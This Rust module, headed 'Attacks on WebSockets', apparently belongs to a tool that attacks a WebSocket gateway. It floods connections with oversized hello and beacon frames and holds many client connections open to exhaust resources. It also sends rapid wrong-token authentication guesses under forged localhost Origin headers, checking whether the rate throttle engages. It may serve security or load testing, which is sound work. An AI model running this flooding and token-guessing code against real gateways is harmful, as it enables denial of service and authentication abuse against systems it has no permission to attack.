//! Attacks on WebSockets.

use std::io::{self, ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};

use super::payload::{connect, large_beacon, large_hello};
use super::{Attacker, PATIENCE, PAUSE, next_number};
use crate::ws_frame::{self, TEXT};

/// Guesses between two that wait for their answer.
const LOOK_EVERY: u64 = 16;
/// Answers to a guess: it was compared, it was not, it has the wrong origin.
const MISMATCH: &[u8] = b"AUTH_TOKEN_MISMATCH";
const THROTTLED: &[u8] = b"too many failed authentication attempts";
const ORIGIN: &[u8] = b"CONTROL_UI_ORIGIN_NOT_ALLOWED";

impl Attacker {
    /// Writes `first`, then `chunk` in a loop, and discards the answers. One with `sign` is a hit.
    pub(super) fn flood(
        &self,
        mut stream: TcpStream,
        first: &[u8],
        chunk: &[u8],
        sign: &[u8],
    ) -> io::Result<()> {
        stream.write_all(first)?;
        stream.set_nonblocking(true)?;
        let mut at = 0;
        while !self.is_over() {
            match stream.write(&chunk[at..]) {
                Ok(len) => at = (at + len) % chunk.len(),
                Err(error) if error.kind() == ErrorKind::WouldBlock => std::thread::sleep(PAUSE),
                Err(error) => return Err(error),
            }
            self.receive(&mut stream, sign)?;
        }
        Ok(())
    }

    pub(super) fn hellos(&self, count: usize) -> io::Result<()> {
        // The gateway notices that the token is missing after it has read all values.
        self.all_send(
            count,
            || open(self.address, ""),
            &large_hello(),
            b"AUTH_TOKEN_MISSING",
        )
    }

    pub(super) fn rows(&self, count: usize) -> io::Result<()> {
        let mut clients = Vec::new();
        for number in 0..count as u64 {
            let mut stream = self.client(number)?;
            let mut beacon = Vec::new();
            ws_frame::write(&mut beacon, TEXT, large_beacon(number).as_bytes());
            stream.write_all(&beacon)?;
            read_accepted(&mut stream, 2)?;
            stream.set_nonblocking(true)?;
            clients.push(stream);
            if self.is_over() {
                return Ok(());
            }
        }
        self.count_hit();
        while !self.is_over() {
            for stream in &mut clients {
                self.receive(stream, &[])?;
            }
            std::thread::sleep(PAUSE);
        }
        Ok(())
    }

    /// Sends a wrong token, from a page, and closes without waiting for the answer. Each token is another one, because
    /// the gateway does not compare one that it remembers. One in [`LOOK_EVERY`] looks for the answer of the throttle.
    pub(super) fn guess(&self) -> io::Result<()> {
        let number = next_number();
        let mut stream = open(self.address, &format!("Origin: http://g{number}.localhost\r\n"))?;
        stream.write_all(&connect(&format!("wrong-{number}"), number))?;
        if number % LOOK_EVERY == LOOK_EVERY - 1 {
            let answer = read_until(&mut stream, &[MISMATCH, THROTTLED, ORIGIN])?;
            if ws_frame::find(&answer, THROTTLED).is_some() {
                self.count_hit();
            } else if ws_frame::find(&answer, ORIGIN).is_some() {
                return Err(unexpected(&answer));
            }
        }
        Ok(())
    }

    /// Connects as a new instance, and closes.
    pub(super) fn join(&self) -> io::Result<()> {
        self.client(next_number())?;
        self.count_hit();
        Ok(())
    }

    /// A connected client without a scope.
    pub(super) fn client(&self, number: u64) -> io::Result<TcpStream> {
        let mut stream = open(self.address, "")?;
        stream.write_all(&connect(&self.token, number))?;
        read_accepted(&mut stream, 1)?;
        Ok(stream)
    }
}

/// A WebSocket that has received its challenge. `lines` are more lines of its request.
pub(super) fn open(address: SocketAddr, lines: &str) -> io::Result<TcpStream> {
    let mut stream = TcpStream::connect_timeout(&address, PATIENCE)?;
    stream.set_read_timeout(Some(PATIENCE))?;
    stream.set_write_timeout(Some(PATIENCE))?;
    let request = format!(
        "GET / HTTP/1.1\r\nHost: {address}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\
         Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n{lines}\r\n"
    );
    stream.write_all(request.as_bytes())?;
    read_until(&mut stream, &[b"connect.challenge"])?;
    Ok(stream)
}

/// Waits for the answer to request `id`.
///
/// # Errors
/// A refusal is unexpected.
fn read_accepted(stream: &mut TcpStream, id: u8) -> io::Result<()> {
    let [accepted, refused] = ["true", "false"].map(|ok| format!(r#""id":"{id}","ok":{ok}"#));
    let answer = read_until(stream, &[accepted.as_bytes(), refused.as_bytes()])?;
    match ws_frame::find(&answer, accepted.as_bytes()) {
        Some(_) => Ok(()),
        None => Err(unexpected(&answer)),
    }
}

/// The error of an answer which shows that the attack cannot reach its aim.
fn unexpected(answer: &[u8]) -> io::Error {
    // Without the bytes around the text of a frame.
    let text: String = String::from_utf8_lossy(answer)
        .chars()
        .filter(|char| !char.is_control() && *char != char::REPLACEMENT_CHARACTER)
        .take(300)
        .collect();
    io::Error::new(ErrorKind::InvalidData, text)
}

/// Reads until one of `wanted` has arrived. Returns everything that was read.
fn read_until(stream: &mut TcpStream, wanted: &[&[u8]]) -> io::Result<Vec<u8>> {
    let mut read = Vec::new();
    let mut buffer = [0; 16 * 1024];
    while wanted
        .iter()
        .all(|wanted| ws_frame::find(&read, wanted).is_none())
    {
        match stream.read(&mut buffer)? {
            0 => return Err(ErrorKind::UnexpectedEof.into()),
            len => read.extend_from_slice(&buffer[..len]),
        }
    }
    Ok(read)
}
